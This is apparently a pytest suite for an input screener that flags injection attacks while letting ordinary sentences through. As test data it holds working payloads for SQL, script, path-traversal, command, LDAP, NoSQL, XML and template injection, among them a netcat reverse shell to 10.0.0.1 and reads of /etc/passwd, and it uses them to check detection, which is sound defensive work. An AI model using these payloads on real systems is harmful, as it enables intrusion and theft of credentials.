"""Screening: attacks are found in a field of each kind, and people may type what they like."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Final

import pytest

from actors.errors import IndexProblem
from actors.screening.libinjection import load
from actors.screening.rules import ScreeningRule, built_in_rules, rules_of
from actors.screening.screener import SELF_TEST, Screener

CORPORA: Final = Path(__file__).with_name("corpora")

PATTERNS: Final = Screener(built_in_rules(), None, "no library")
"""The screener that every machine has."""

PASSES: Final = (
    "people named O'Brien, select specialty hospital, DROP-IN CENTRE; Robert'); are fine",
    "Please select one from the list below",
    "I'd like the union of both teams; select whoever is free",
    "Update your profile and set a new password",
    "5' or 6' tall? It's 1 or 2 -- I forget",
    "Tom & Jerry <3, 50% off; a=b",
    "She said: 'drop the table off at noon'",
    "order by Friday, group by colour",
    "if (a < b && c > d) return a or b;",
    "naïve café, 日本語, Ω, 🙂",
    "the '60s and '70s = best",
    "C:\\Users are not paths/either/or",
    "Who's there?; who knows",
    "10 or more, 1950 or 1960",
    "insert coin, delete from memory what you like",
    "ada@example.com, o'neill@example.org",
    "",
    "A command-line tool for backups",
    "`rm -fr` in Node; finds files, a wrapper around `find`",
    "On top of `fetch` and of `hostname`, with window.open in React",
    "Less @import statements in each file; write (Acrobat) files",
    "Learn JavaScript: A first course",
    "SSH / serial / SFTP",
    "> as I said yesterday",
    "a module for time() and sleep() and exec()",
    "the [[Call]] method and {loader,plugin}",
    "P&ID drawings; R&D | Echo Dot; ID 4411",
    "see sysusers.d, and Option<T> of Rust",
    "-- Ada, toJSON (for reports)",
    "* buy milk",
    "*** urgent ***",
    "!!!",
    "Attention (!), see below (&)",
    "Hello {{first_name}}, welcome to {{ company.name }}",
    "Anna Banks <anna@example.com>, Pia <p@example.com>, I. Link <link@example.com>",
    "See [[1]] and [[12]]",
    "Fire: red alert (all hands), eval (annual)",
    "JavaScript: the good parts",
    "new .htaccess rules, web.config changes",
    "Shutdown -- planned maintenance",
    "Order by 3, please",
    "delete from calendar; thanks",
    "The program outputs the following::",
)
"""Sentences of people."""

FLOORS: Final = {
    "sqli_httpparams": 98,
    "sqli_libinjection": 95,
    "sqli_patt": 89,
    "sqli_payloadbox": 91,
    "cmdi_httpparams": 97,
    "cmdi_patt": 95,
    "ldap_patt": 50,
    "mixed_blns_attack": 95,
    "nosqli_patt": 100,
    "path_httpparams": 90,
    "path_patt": 98,
    "ssti_patt": 98,
    "xss_httpparams": 97,
    "xss_libinjection": 97,
    "xss_patt": 97,
    "xxe_patt": 95,
}
"""Percent of each set's sample that the patterns alone reject in a field of one line."""


def texts_of(name: str) -> list[str]:
    lines = (CORPORA / f"{name}.jsonl").read_text(encoding="utf-8").split("\n")
    return [json.loads(line) for line in lines if line]


def found(text: str, kind: str = "line") -> set[str]:
    return {rule.attack for rule in PATTERNS.find(text, kind)}


@pytest.mark.parametrize("text", PASSES)
@pytest.mark.parametrize("kind", ["line", "text"])
def test_what_people_write_passes(text: str, kind: str) -> None:
    assert found(text, kind) == set()


@pytest.mark.parametrize(
    "text",
    [
        "Default configuration is in /etc/nsswitch.conf, see /etc/pam.d/* and /usr/bin/env",
        "This package has the master copies of /etc/passwd and /etc/group",
        "Use <b>bold</b>",
    ],
)
def test_prose_may_name_files_and_tags_which_a_line_may_not(text: str) -> None:
    assert (found(text, "text"), bool(found(text, "line"))) == (set(), True)


@pytest.mark.parametrize(
    "text",
    [
        "/etc/passwd",
        "x;/bin/id",
        "a=`/usr/bin/id`",
        "file=/etc/passwd",
        "see ../../etc/shadow",
        "$(/bin/cat /x)",
    ],
)
def test_prose_that_reads_or_runs_a_file_is_rejected(text: str) -> None:
    assert found(text, "text")


@pytest.mark.parametrize(
    ("text", "attack"),
    [
        ("1' or '1'='1", "sql injection"),
        ("x'; DROP TABLE users; --", "sql injection"),
        ("1 UNION ALL SELECT password FROM users", "sql injection"),
        ("<script>alert(1)</script>", "script injection"),
        ("<img src=x onerror=alert(1)>", "script injection"),
        ("../../../etc/passwd", "path traversal"),
        ("; cat /etc/passwd", "command injection"),
        ("$(curl http://example.com/x)", "command injection"),
        ("{{7*7}}", "template injection"),
        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "xml injection"),
        ("*)(uid=*))(|(uid=*", "ldap injection"),
        ('{"$ne": null}', "nosql injection"),
    ],
)
def test_an_attack_of_each_class_is_named(text: str, attack: str) -> None:
    assert attack in found(text)


@pytest.mark.parametrize("name", FLOORS)
def test_the_patterns_reject_at_least_so_many_of_each_set(name: str) -> None:
    texts = texts_of(name)
    rejected = sum(bool(found(text)) for text in texts)
    assert 100 * rejected / len(texts) >= FLOORS[name]


SHELLS: Final = (
    ";{}",
    "|{}",
    "&&{}",
    "&{}&",
    "%0a{}",
    "%0D{}",
    "\\n{}\\n",
    "a);{}",
    "a;{};",
    "x||{}",
    "`{}`",
    "$({})",
    "x$({})",
    "1.2.3.4; {}",
    "1.2.3.4 | {}",
    '" && {} && "',
    "'; {}; '",
    '"; {} #',
    "A=$'{}';$A",
    ";system('{}')",
)
"""What is around a command so that a shell runs it."""

COMMANDS: Final = (
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "ls -la",
    "sleep 5",
    "ping -c 3 127.0.0.1",
    "ps aux",
    "dir",
    "curl http://example.com/x",
    "echo pwned",
    "nc -e /bin/sh 10.0.0.1 4444",
    "ipconfig /all",
    "net user",
    "env",
)


@pytest.mark.parametrize("shell", SHELLS)
def test_a_command_is_found_in_whatever_makes_a_shell_run_it(shell: str) -> None:
    assert [each for each in COMMANDS if not found(shell.format(each))] == []


FILTERS: Final = (
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "admin)(!(&(1=0",
    "*)(cn=*",
    "(sAMAccountName=*)",
    "userPassword:2.5.13.18:=x",
    "\\2a\\29",
    "x)(memberOf=cn=admins",
    "(userAccountControl:1.2.840.113556.1.4.803:=2)",
    "*",
    "*/*",
)


@pytest.mark.parametrize("text", FILTERS)
def test_what_changes_a_filter_of_ldap_is_found_and_names_of_attributes_pass(text: str) -> None:
    assert "ldap injection" in found(text)
    assert [each for each in ("cn", "mail", "userPassword", "l") if found(each)] == []


OPERATORS: Final = (
    "name[$ne]=x",
    '{"a": {"$gt": ""}}',
    "{ $lookup: { from: 'users' } }",
    '[{"$unionWith": "users"}]',
    "user[$size]=1",
    "' || 'a'=='a",
    "'; return true; var x='",
    "db.getCollectionNames()",
    "tojson(this)",
    '{"&exists": false}',
)


@pytest.mark.parametrize("text", OPERATORS)
@pytest.mark.parametrize("kind", ["line", "text"])
def test_operators_and_code_of_document_databases_are_found(text: str, kind: str) -> None:
    assert found(text, kind)


@pytest.mark.parametrize(
    "name", ["benign_apostrophe", "benign_httpparams", "benign_notinject", "benign_shakespeare"]
)
@pytest.mark.parametrize("kind", ["line", "text"])
def test_no_name_or_prose_of_the_sets_is_rejected(name: str, kind: str) -> None:
    assert [text for text in texts_of(name) if found(text, kind)] == []


@pytest.mark.parametrize(
    ("kind", "text"),
    [("token", "two words"), ("token", "a'b"), ("line", "two\nlines"), ("text", "a\x00b")],
)
def test_what_a_kind_cannot_hold_is_refused_before_any_pattern(kind: str, text: str) -> None:
    assert found(text, kind) == {"characters"}


def test_an_attack_behind_64_kib_of_filler_is_found() -> None:
    assert "sql injection" in found(SELF_TEST, "text")


def test_lone_surrogates_are_no_failure() -> None:
    assert found("\ud800 1' or 1=1 --") == {"sql injection"}


@pytest.mark.parametrize("pattern", [r"(a)\1", r"(?=a)", r"(", r"a{1,2000}"])
def test_a_pattern_that_is_not_linear_or_none_is_refused_by_name(pattern: str) -> None:
    entry = {"id": "own-rule", "class": "own", "pattern": pattern}
    with pytest.raises(IndexProblem, match="rule own-rule: the pattern"):
        rules_of([entry], {})


def test_rules_that_leave_no_memory_to_match_are_refused() -> None:
    greedy = ScreeningRule("greedy", "own", ("text",), "block", r"(?:[a-z]{1,500}x){1,2}\pL{1,900}")
    with pytest.raises(IndexProblem, match="kind text need more memory"):
        Screener([greedy] * 400, None, "")


def test_a_missing_library_is_said_in_words() -> None:
    library, about = load("there-is-no-such-library")
    assert library is None
    assert about.startswith("not installed: libthere-is-no-such-library")


def test_libinjection_finds_what_its_self_test_holds_where_it_is_installed() -> None:
    library, about = load()
    if library is None:
        pytest.skip(about)
    assert library.failures() == []
    assert library.find(b"1' or 'a'='a' -- ").sql
    assert not library.find(b"Mr. Jack-o'-lantern; please call").sql
